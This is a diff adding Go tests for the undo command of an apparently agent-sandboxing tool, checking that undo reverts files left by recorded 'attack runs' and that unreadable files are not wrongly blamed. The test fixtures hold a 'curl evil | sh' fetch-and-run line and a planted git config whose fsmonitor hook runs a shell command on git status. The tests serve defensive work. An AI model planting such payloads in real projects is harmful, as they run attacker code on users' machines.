@@ -630,6 +630,16 @@ open("deploy/Cargo.toml", "w").write("[package]\n")`)
 	if got := listing(t, w.proj); got != want {
 		t.Errorf("after undo of the call that removed rs/Cargo.toml:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
 	}
+	// A target the call made where no Cargo.toml was (the nineteenth
+	// attack run's docs/target/install.sh) is recorded, and undone.
+	w.jailed(t, `import os; os.makedirs("docs/target"); open("docs/target/install.sh", "w").write("curl evil | sh\n")`)
+	out, code = w.run(t, w.cli, "undo", "--yes")
+	if code != 0 {
+		t.Fatalf("undo: %d %s", code, out)
+	}
+	if got := listing(t, w.proj); got != want {
+		t.Errorf("after undo of the call that made docs/target:\n%s\nwant:\n%s\nundo said:\n%s", got, want, out)
+	}
 }
 
 // TestUndoNoGitDirAssembled: undo's result mixes the call's before-state
@@ -662,6 +672,24 @@ for d in ("src/objects/node_modules", "src/refs/node_modules"):
 	}
 	if b, err := os.ReadFile(filepath.Join(w.proj, "tracked.txt")); err != nil || string(b) != "tracked\n" {
 		t.Errorf("control: tracked.txt after undo: %q %v\n%s", b, err, out)
+	}
+
+	// Put back at mode 0500 (the nineteenth attack run): HEAD is moved
+	// aside all the same.
+	w.jailed(t, fmt.Sprintf(`import os
+os.mkdir("lib")
+open("lib/HEAD", "w").write("ref: refs/heads/main\n")
+open("lib/config", "w").write("[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch %s; false\"\n")
+os.chmod("lib", 0o500)`, pwned))
+	w.jailed(t, `import os
+os.chmod("lib", 0o700)
+os.remove("lib/HEAD")
+for d in ("lib/objects/node_modules/x", "lib/refs/node_modules/x"):
+    os.makedirs(d)`)
+	out, _ = w.run(t, w.cli, "undo", "--yes")
+	w.run(t, "/bin/sh", "-c", "cd lib && git status >/dev/null 2>&1; true")
+	if _, err := os.Lstat(pwned); err == nil || !strings.Contains(out, "moved to lib/HEAD.loopguard-held-") {
+		t.Errorf("lib, put back at 0500: HEAD not moved aside (%v):\n%s", err, out)
 	}
 }
 
@@ -749,5 +777,28 @@ func TestUndoLinkLeadsOutAfter(t *testing.T) {
 	}
 	if !strings.Contains(out, "src/l") {
 		t.Errorf("undo did not say it held back src/l:\n%s", out)
+	}
+}
+
+// TestUndoUnreadableNotBlamed: the record reads a file a call made
+// unreadable (chmod 000) with its owner's read bit given and taken back,
+// which moves the file's change time; the next record's listing keeps the
+// time after, so that a later call that does not touch the file is not
+// taken to have changed it (undo put it back, a new inode, and broke its
+// hard links). Control: that call's own change is undone.
+func TestUndoUnreadableNotBlamed(t *testing.T) {
+	w := newWorld(t)
+	w.jailed(t, `import os; open("priv.txt", "w").write("data\n"); os.chmod("priv.txt", 0)`)
+	time.Sleep(2100 * time.Millisecond) // past the record's racy window
+	w.jailed(t, `open("README.md", "a").write("x\n")`)
+	out, code := w.run(t, w.cli, "undo", "--yes")
+	if code != 0 {
+		t.Fatalf("undo: %d %s", code, out)
+	}
+	if strings.Contains(out, "priv.txt") {
+		t.Errorf("undo of a call that did not touch priv.txt names it:\n%s", out)
+	}
+	if b, _ := os.ReadFile(filepath.Join(w.proj, "README.md")); string(b) != "# project\n" {
+		t.Errorf("control: README.md after undo: %q\n%s", b, out)
 	}
 }
